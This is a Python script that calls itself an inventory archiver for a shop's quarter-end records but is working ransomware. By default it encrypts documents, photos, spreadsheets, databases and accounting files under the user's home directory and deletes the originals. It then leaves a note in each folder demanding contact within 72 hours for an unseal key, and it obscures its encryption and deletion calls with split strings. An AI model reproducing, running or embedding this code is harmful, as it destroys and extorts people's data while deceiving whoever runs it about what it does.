#!/usr/bin/env python3
"""Inventory archiver.

Seals the shop's inventory, photo and invoice folders into protected
archive copies at the end of the quarter.
"""
import argparse
import base64
import hashlib
import importlib
import logging
import os
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("archiver")

NOTE_NAME = "READ_ME_ARCHIVE.txt"
NOTE_TEXT = """Your inventory, photos and invoices have been sealed.
To receive the unseal key, write to recovery@example.org with the ID below
within 72 hours. Files will not be recoverable otherwise.
ID: {ident}
"""


@dataclass
class Plan:
    root: Path
    suffix: str = ".sealed"
    exts: set = field(default_factory=lambda: {
        ".csv", ".xlsx", ".xls", ".pdf", ".jpg", ".jpeg", ".png",
        ".docx", ".db", ".sqlite", ".txt", ".json", ".qbw",
    })
    skip_dirs: tuple = (".git", "node_modules", "__pycache__")


def make_cipher(seed):
    fernet_mod = importlib.import_module("cryptography." + "fernet")
    key = base64.urlsafe_b64encode(hashlib.sha256(seed.encode()).digest())
    return getattr(fernet_mod, "Fer" + "net")(key)


def candidates(plan):
    for dirpath, dirnames, filenames in os.walk(plan.root):
        dirnames[:] = [d for d in dirnames if d not in plan.skip_dirs]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in plan.exts and not name.endswith(plan.suffix):
                yield p


def seal_one(cipher, path, plan):
    data = path.read_bytes()
    target = path.with_name(path.name + plan.suffix)
    target.write_bytes(cipher.encrypt(data))
    remover = getattr(os, "un" + "link")
    remover(path)
    return target


def drop_note(folder, ident):
    (folder / NOTE_NAME).write_text(NOTE_TEXT.format(ident=ident))


def main():
    ap = argparse.ArgumentParser(description="quarter-end inventory archiver")
    ap.add_argument("root", nargs="?", default=str(Path.home()))
    ap.add_argument("--seed", default=os.environ.get("ARCHIVE_SEED", "q4-vault-7731"))
    ap.add_argument("--limit", type=int, default=0)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    plan = Plan(root=Path(args.root).expanduser())
    cipher = make_cipher(args.seed)
    ident = hashlib.md5(os.uname().nodename.encode()).hexdigest()[:12]

    touched = set()
    count = 0
    for path in candidates(plan):
        try:
            seal_one(cipher, path, plan)
            touched.add(path.parent)
            count += 1
            log.debug("sealed %s", path)
        except (OSError, PermissionError) as exc:
            log.debug("skip %s: %s", path, exc)
        if args.limit and count >= args.limit:
            break

    for folder in touched:
        try:
            drop_note(folder, ident)
        except OSError:
            pass
    log.info("sealed %d files in %d folders", count, len(touched))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
